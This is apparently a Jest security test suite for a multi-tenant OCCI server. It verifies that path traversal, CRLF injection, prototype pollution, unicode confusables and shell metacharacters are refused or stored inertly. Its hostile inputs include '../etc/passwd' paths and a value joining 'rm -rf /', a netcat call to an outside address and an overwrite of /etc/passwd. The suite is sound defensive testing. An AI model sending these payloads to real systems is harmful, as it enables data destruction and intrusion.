/**
 * Hostile inputs (issue 4, acceptance): dot segments, encoded slashes, malformed escapes, NUL and CRLF,
 * very long values, shell metacharacters, unicode confusables and bidi overrides, `__proto__` and
 * `constructor` in ids, paths, attribute names, JSON keys and headers. Each is either refused with its
 * exact 4xx, the store unchanged (CouchDB update_seq) and both tenants' worlds as they were, or stored
 * inertly: read back byte-identical, nothing else touched. Never a 5xx, never a crash.
 *
 * Requests Node's HTTP parser refuses before occitan sees them (raw NUL, CR in a header value, headers
 * over `limits.headerBytes`, repeated credential headers) go through a real `http.createServer` on
 * 127.0.0.1:0 configured as `occitan serve` configures it: test/http/hostile-raw.test.ts.
 */
import type { Test } from 'supertest';
import { basic, startTokenHarness, tokenFixture } from '../support/auth';
import { COMPUTE_CATEGORY, INFRA, type Harness } from '../support/harness';

const JSON_TYPE = 'application/occi+json';
const COMPUTE = `${INFRA}compute`;
let h: Harness;
let alice: string; // member of acme: the attacker in refused cases
let bob: string; // member of beta: a bystander
let eve: string; // member of evil: stores the inert values, so acme and beta stay as they were

beforeAll(async () => {
  const t = tokenFixture();
  alice = t.add('alice', 'acme', 'member');
  bob = t.add('bob', 'beta', 'member');
  eve = t.add('eve', 'evil', 'member');
  h = await startTokenHarness(t);
  const made = await Promise.all([
    h.http.put('/compute/web1').set('X-Auth-Token', alice).set('Content-Type', 'text/occi').set('Category', COMPUTE_CATEGORY).set('X-OCCI-Attribute', 'occi.core.title="web one"'),
    h.http.put('/compute/b1').set('X-Auth-Token', bob).set('Content-Type', 'text/occi').set('Category', COMPUTE_CATEGORY),
    h.http.post('/-/').set('X-Auth-Token', alice).set('Content-Type', 'text/occi').set('Category', 'tag; scheme="http://example.com/tags#"; class="mixin"; location="/tags/"'),
  ]);
  expect(made.map((r) => r.status)).toEqual([201, 201, 200]);
});
afterAll(async () => h.close());

/** Everything acme and beta can see: listings, web1 in full (with its ETag), their user mixins. */
async function world(): Promise<unknown> {
  const out: Record<string, unknown> = {};
  for (const [who, token] of [['alice', alice], ['bob', bob]] as const) {
    out[`${who} /`] = (await h.http.get('/').set('X-Auth-Token', token).set('Accept', 'text/uri-list')).text;
    const q = await h.http.get('/-/').set('X-Auth-Token', token).set('Accept', JSON_TYPE);
    out[`${who} mixins`] = (q.body.mixins as Array<{ scheme: string; term: string; location: string }>).map((m) => `${m.scheme}${m.term} ${m.location}`).sort();
  }
  const web1 = await h.http.get('/compute/web1').set('X-Auth-Token', alice).set('Accept', JSON_TYPE);
  out.web1 = [web1.status, web1.headers.etag, web1.body];
  // Supertest listens on a new port per request: compare paths, not origins.
  return JSON.parse(JSON.stringify(out).replace(/http:\/\/127\.0\.0\.1:\d+/g, ''));
}

const as = (token: string) => (r: Test): Test => r.set('X-Auth-Token', token);
const occi = (r: Test, category = COMPUTE_CATEGORY, attributes?: string): Test => {
  const t = r.set('Content-Type', 'text/occi').set('Category', category);
  return attributes === undefined ? t : t.set('X-OCCI-Attribute', attributes);
};
const putAt = (path: string) => (): Test => occi(as(alice)(h.http.put(path)));
const get = (path: string) => (): Test => as(alice)(h.http.get(path));
const del = (path: string) => (): Test => as(alice)(h.http.delete(path));
const withId = (id: string) => (): Test => occi(as(alice)(h.http.post('/compute/')), COMPUTE_CATEGORY, `occi.core.id=${JSON.stringify(id)}`);
const jsonPost = (path: string, body: string) => (): Test => as(alice)(h.http.post(path)).set('Content-Type', JSON_TYPE).send(body);
const jsonCompute = (members: string) => jsonPost('/compute/', `{"kind": "${COMPUTE}"${members}}`);
const attr = (attributes: string) => (): Test => occi(as(alice)(h.http.post('/compute/')), COMPUTE_CATEGORY, attributes);
const header = (name: string, value: string) => (): Test => as(alice)(h.http.get('/compute/')).set(name, value);
const userMixin = (mixin: Record<string, string>) => jsonPost('/-/', JSON.stringify({ mixins: [{ scheme: 'http://example.com/tags#', ...mixin }] }));

const DOTS = "holds a '.' or '..' segment";
const NOT_A_LOCATION = 'cannot be an entity location';
const NOT_AN_ID = 'cannot name a path';
const BAD_TENANT = 'is not a tenant name';
const BAD_MIXIN_LOCATION = "with no '.' or '..' segment, outside /-/ and /.well-known/";

type Refused = readonly [name: string, send: () => Test, status: number, message: string];

const REFUSED: Refused[] = [
  // --- paths: dot segments, encoded slashes, malformed escapes, control and non-path characters ---
  ['PUT /compute/..', putAt('/compute/..'), 400, DOTS],
  ['PUT /compute/%2e%2e', putAt('/compute/%2e%2e'), 400, DOTS],
  ['GET /compute/%2e%2e/%2e%2e/etc/passwd', get('/compute/%2e%2e/%2e%2e/etc/passwd'), 400, DOTS],
  ['DELETE /%2e%2e/', del('/%2e%2e/'), 400, DOTS],
  ['DELETE /compute/.', del('/compute/.'), 400, DOTS],
  ['PUT /-/../compute/x', putAt('/-/../compute/x'), 400, DOTS],
  ['PUT /compute/a%2Fb (encoded slash)', putAt('/compute/a%2Fb'), 400, "encoded '/' (%2F)"],
  ['GET /compute/%2f', get('/compute/%2f'), 400, "encoded '/' (%2F)"],
  ['DELETE /..%2F..%2F', del('/..%2F..%2F'), 400, "encoded '/' (%2F)"],
  ['PUT /compute/% (malformed escape)', putAt('/compute/%'), 400, 'malformed %-escape'],
  ['GET /compute/%E0%A4%A (truncated UTF-8)', get('/compute/%E0%A4%A'), 400, 'malformed %-escape'],
  ['DELETE /compute/%zz', del('/compute/%zz'), 400, 'malformed %-escape'],
  ['PUT /compute/a%00b (NUL)', putAt('/compute/a%00b'), 400, 'control character'],
  ['PUT /compute/a%0D%0AX-Injected:%201 (CRLF)', putAt('/compute/a%0D%0AX-Injected:%201'), 400, 'control character'],
  ['DELETE /compute/%0A', del('/compute/%0A'), 400, 'control character'],
  ['PUT a right-to-left override', putAt('/compute/%E2%80%AEexe.txt'), 400, `"/compute/\\u202eexe.txt" ${NOT_A_LOCATION}`],
  ['PUT a Cyrillic confusable (аdmin)', putAt('/compute/%D0%B0dmin'), 400, `"/compute/\\u0430dmin" ${NOT_A_LOCATION}`],
  ['PUT fullwidth letters', putAt('/compute/%EF%BC%A1%EF%BC%A2'), 400, NOT_A_LOCATION],
  ['PUT a zero-width space', putAt('/compute/web%E2%80%8B1'), 400, NOT_A_LOCATION],
  ['PUT a pipe', putAt('/compute/a%7Cb'), 400, NOT_A_LOCATION],
  ['PUT backticks', putAt('/compute/%60reboot%60'), 400, NOT_A_LOCATION],
  ['PUT a space', putAt('/compute/a%20b'), 400, NOT_A_LOCATION],
  ['PUT a comma (it separates text/occi header values)', putAt('/compute/a,b'), 400, NOT_A_LOCATION],
  ['PUT angle brackets and a quote', putAt('/compute/%3Cx%3E%22'), 400, NOT_A_LOCATION],
  ['PUT a 2000-character path', putAt(`/compute/${'x'.repeat(2000)}`), 400, NOT_A_LOCATION],
  // --- client-chosen ids ---
  ['id ../x', withId('../x'), 400, NOT_AN_ID],
  ['id with an encoded slash', withId('a%2Fb'), 400, NOT_AN_ID],
  ['id with NUL (JSON)', jsonCompute(', "id": "a\\u0000b"'), 400, NOT_AN_ID],
  ['id with a right-to-left override (JSON)', jsonCompute(', "id": "a\\u202eb"'), 400, NOT_AN_ID],
  ['id with a Cyrillic confusable (JSON)', jsonCompute(', "id": "\\u0430dmin"'), 400, NOT_AN_ID],
  ['id of 201 characters', withId('x'.repeat(201)), 400, NOT_AN_ID],
  ['id $(reboot)', withId('$(reboot)'), 400, NOT_AN_ID],
  ['id __proto__', withId('__proto__'), 400, NOT_AN_ID],
  // --- attribute names and JSON keys ---
  ['JSON attributes.__proto__', jsonCompute(', "attributes": {"__proto__": "x"}'), 400, 'the member name __proto__ is not allowed'],
  ['JSON attributes.__proto__.polluted', jsonCompute(', "attributes": {"__proto__": {"polluted": 1}}'), 400, 'unknown attribute __proto__.polluted'],
  ['JSON top-level __proto__', jsonCompute(', "__proto__": {"polluted": 1}'), 400, 'the member name __proto__ is not allowed'],
  ['JSON attributes.constructor.prototype', jsonCompute(', "attributes": {"constructor": {"prototype": {"polluted": 1}}}'), 400, 'unknown attribute constructor'],
  ['JSON attribute constructor', jsonCompute(', "attributes": {"constructor": "x"}'), 400, 'unknown attribute constructor\n'],
  ['text attribute constructor', attr('constructor="x"'), 400, 'unknown attribute constructor\n'],
  ['text attribute toString', attr('toString="x"'), 400, 'unknown attribute toString\n'],
  ['text attribute __proto__.polluted', attr('__proto__.polluted="1"'), 400, "bad attribute name '__proto__.polluted'"],
  ['text attribute a.__proto__.polluted', attr('a.__proto__.polluted="1"'), 400, 'unknown attribute a.__proto__.polluted'],
  ['action parameter constructor', () => occi(as(alice)(h.http.post('/compute/web1?action=stop')), 'stop; scheme="http://schemas.ogf.org/occi/infrastructure/compute/action#"; class="action"', 'constructor="x"'), 400, 'has no parameter constructor'],
  ['action $(reboot)', () => as(alice)(h.http.post('/compute/web1?action=$(reboot)')), 400, 'no action "$(reboot)"'],
  ['action __proto__', () => as(alice)(h.http.post('/compute/web1?action=__proto__')), 400, 'no action "__proto__"'],
  // --- attribute values ---
  ['hostname $(reboot)', attr('occi.compute.hostname="$(reboot)"'), 400, 'occi.compute.hostname: "$(reboot)" must match pattern'],
  ['hostname with ;|&', attr('occi.compute.hostname="a;b|c&d"'), 400, 'occi.compute.hostname'],
  ['a CRLF splitting a text/plain attribute line', () => as(alice)(h.http.post('/compute/')).set('Content-Type', 'text/plain')
    .send(`Category: ${COMPUTE_CATEGORY}\r\nX-OCCI-Attribute: occi.core.title="a\r\nX-Injected: 1"\r\n`), 400, 'unterminated quoted-string'],
  ['a 100 KB attribute in a header', attr(`occi.core.title="${'x'.repeat(100 * 1024)}"`), 431, ''],
  // --- headers ---
  ['X-Tenant-Name: ../other', header('X-Tenant-Name', '../other'), 400, BAD_TENANT],
  ['X-Tenant-Name: acme/../beta', header('X-Tenant-Name', 'acme/../beta'), 400, BAD_TENANT],
  ['X-Tenant-Name: $(reboot)', header('X-Tenant-Name', '$(reboot)'), 400, BAD_TENANT],
  ['X-Tenant-Name: __proto__', header('X-Tenant-Name', '__proto__'), 400, BAD_TENANT],
  ['X-Tenant-Name of 65 characters', header('X-Tenant-Name', 'a'.repeat(65)), 400, BAD_TENANT],
  ['X-Auth-Token: ../../etc/passwd', () => h.http.get('/compute/').set('X-Auth-Token', '../../etc/passwd'), 401, ''],
  ['X-Auth-Token: __proto__.<a real secret>', () => h.http.get('/compute/').set('X-Auth-Token', `__proto__.${alice.split('.')[1]}`), 401, 'the token is not valid'],
  ['X-Auth-Token: constructor.x', () => h.http.get('/compute/').set('X-Auth-Token', 'constructor.x'), 401, ''],
  ['a 10 KB Bearer token', () => h.http.get('/compute/').set('Authorization', `Bearer ${'A'.repeat(10240)}`), 401, ''],
  ['Basic user __proto__', () => h.http.get('/compute/').set('Authorization', basic('__proto__', 'x')), 401, ''],
  ['Authorization and X-Auth-Token naming different users', () => h.http.get('/compute/').set('Authorization', `Bearer ${bob}`).set('X-Auth-Token', alice), 401, 'two different credentials'],
  ['Accept: ../../etc', () => as(alice)(h.http.get('/compute/')).set('Accept', '../../etc'), 406, 'cannot render "../../etc"'],
  ['Category term $(reboot)', () => occi(as(alice)(h.http.post('/compute/')), `$(reboot); scheme="${INFRA}"; class="kind"`), 400, "bad term '$(reboot)'"],
  // --- user mixin definitions ---
  ['mixin location under /-/', userMixin({ term: 'm1', location: '/-/x/' }), 400, BAD_MIXIN_LOCATION],
  ['mixin location /../x/', userMixin({ term: 'm2', location: '/../x/' }), 400, BAD_MIXIN_LOCATION],
  ['mixin location with CRLF', userMixin({ term: 'm3', location: '/a\r\nX-Injected: 1/' }), 400, '"/a\\r\\nX-Injected: 1/"'],
  ['mixin location with a right-to-left override', userMixin({ term: 'm4', location: '/x\u202e/' }), 400, '"/x\\u202e/"'],
  ['mixin location with a space', userMixin({ term: 'm5', location: '/a b/' }), 400, BAD_MIXIN_LOCATION],
  ['mixin location with a comma', userMixin({ term: 'm8', location: '/a,b/' }), 400, BAD_MIXIN_LOCATION],
  ['mixin location %2e%2e', userMixin({ term: 'm6', location: '/%2e%2e/' }), 400, BAD_MIXIN_LOCATION],
  ['mixin location under /.well-known/', userMixin({ term: 'm7', location: '/.well-known/x/' }), 400, BAD_MIXIN_LOCATION],
  ['mixin term __proto__', userMixin({ term: '__proto__', location: '/p/' }), 400, 'term "__proto__" must match'],
  ['mixin term with a right-to-left override', userMixin({ term: 'a\u202eb', location: '/q/' }), 400, 'must match'],
];

test('at least 40 hostile inputs are refused', () => {
  expect(REFUSED.length).toBeGreaterThanOrEqual(40);
});

describe.each(REFUSED)('%s', (_name, send, status, message) => {
  test(`${status}, store and both tenants unchanged`, async () => {
    const before = await world();
    const seq = await h.seq();
    const r = await send();
    expect({ status: r.status, text: r.text ?? '' }).toEqual({ status, text: expect.stringContaining(message) });
    expect(await h.seq()).toBe(seq);
    expect(await world()).toEqual(before);
  });
});

test('nothing reached Object.prototype', () => {
  expect((({}) as Record<string, unknown>).polluted).toBeUndefined();
  expect(Object.prototype.hasOwnProperty.call(Object.prototype, 'polluted')).toBe(false);
});

// --- stored inertly: read back byte-identical, nothing else touched ---

const evilGet = (path: string, accept = JSON_TYPE) => h.http.get(path).set('X-Auth-Token', eve).set('Accept', accept);

const TITLES: Array<readonly [string, string]> = [
  ['CRLF and a header line', 'a\r\nX-Injected: 1\r\n\r\n<html>'],
  ['NUL and other control characters', 'a\u0000b\u0007c\u001bd\u007f'],
  ['100 KB', 'x'.repeat(100 * 1024)],
  ['shell metacharacters', '$(reboot); rm -rf / | nc 192.0.2.1 9 & `id` > /etc/passwd'],
  ['bidi overrides and confusables', '\u202egnp.exe\u202c \u0430dmin \uff21 web\u200b1'],
  ['JSON and quotes', '{"__proto__": {"polluted": 1}}\\"\''],
];

describe.each(TITLES)('a title with %s (JSON)', (_what, title) => {
  test('201, read back byte-identical; acme and beta untouched', async () => {
    const before = await world();
    const r = await h.http.post('/compute/').set('X-Auth-Token', eve).set('Content-Type', JSON_TYPE).set('Accept', JSON_TYPE)
      .send(JSON.stringify({ kind: COMPUTE, attributes: { 'occi.core.title': title } }));
    expect(r.status).toBe(201);
    const path = new URL(r.headers.location as string).pathname;
    const back = await evilGet(path);
    expect(back.status).toBe(200);
    expect(Buffer.from(back.body.attributes['occi.core.title'] as string, 'utf8').equals(Buffer.from(title, 'utf8'))).toBe(true);
    // In text renderings the value is one quoted value: no header or body line of its own, no line break
    // in a header. (A 100 KB value in text/occi makes a header over what default clients parse.)
    for (const accept of title.length > 8192 ? ['text/plain'] : ['text/plain', 'text/occi']) {
      const text = await evilGet(path, accept);
      expect(text.status).toBe(200);
      expect(text.headers['x-injected']).toBeUndefined();
      for (const v of Object.values(text.headers)) expect(String(v)).not.toMatch(/[\r\n\0]/);
      expect(text.text).not.toMatch(/^X-Injected/m);
      expect(text.text).not.toMatch(/\0/);
    }
    expect(await world()).toEqual(before);
  });
});

test('shell metacharacters in a text/occi attribute: stored and read back as sent', async () => {
  const title = '$(reboot);|&`id` \\"x\\"';
  const r = await occi(h.http.post('/compute/').set('X-Auth-Token', eve), COMPUTE_CATEGORY, `occi.core.title="${title}"`);
  expect(r.status).toBe(201);
  const back = await evilGet(new URL(r.headers.location as string).pathname);
  expect(back.body.attributes['occi.core.title']).toBe('$(reboot);|&`id` "x"');
});

test.each([
  ['/compute/$(reboot)'],
  ["/compute/a;b&c=d+e'f!g*(h)"],
  ['/compute/__proto__'],
  ['/compute/constructor'],
  ['/compute/toString'],
])('an entity at %s is stored at exactly that path and touches nothing else', async (path) => {
  const before = await world();
  const r = await occi(h.http.put(path).set('X-Auth-Token', eve)).set('Accept', JSON_TYPE);
  expect(r.status).toBe(201);
  expect(new URL(r.headers.location as string).pathname).toBe(path);
  const back = await evilGet(path);
  expect(back.status).toBe(200);
  expect(back.body.id).toBe(r.body.id);
  const list = await evilGet('/compute/', 'text/uri-list');
  expect(list.text.split(/\r?\n/).filter(Boolean).map((u) => new URL(u).pathname)).toContain(path);
  expect(await world()).toEqual(before);
});

test('a user mixin named constructor is a mixin like any other', async () => {
  const r = await h.http.post('/-/').set('X-Auth-Token', eve).set('Content-Type', 'text/occi')
    .set('Category', 'constructor; scheme="http://example.com/tags#"; class="mixin"; location="/constructor/"');
  expect(r.status).toBe(200);
  const tagged = await h.http.post('/compute/__proto__').set('X-Auth-Token', eve).set('Content-Type', 'text/occi')
    .set('Category', 'constructor; scheme="http://example.com/tags#"; class="mixin"');
  expect(tagged.status).toBe(200);
  expect((await evilGet('/constructor/', 'text/uri-list')).text.split(/\r?\n/).filter(Boolean).map((u) => new URL(u).pathname)).toEqual(['/compute/__proto__']);
  // acme has no such mixin.
  expect((await h.http.get('/constructor/').set('X-Auth-Token', alice)).status).toBe(404);
});

test.each([
  ['__proto__', 'x'],
  ['constructor', 'function Object() { [native code] }'],
  ['toString', 'function toString() { [native code] }'],
])('a filter on attribute %s matches nothing (not everything)', async (name, value) => {
  const r = await evilGet(`/compute/?attribute=${name}&value=${encodeURIComponent(value)}`, 'text/uri-list');
  expect(r.status).toBe(200);
  expect(r.text).toBe('');
  expect(r.headers['x-occi-total']).toBe('0');
});
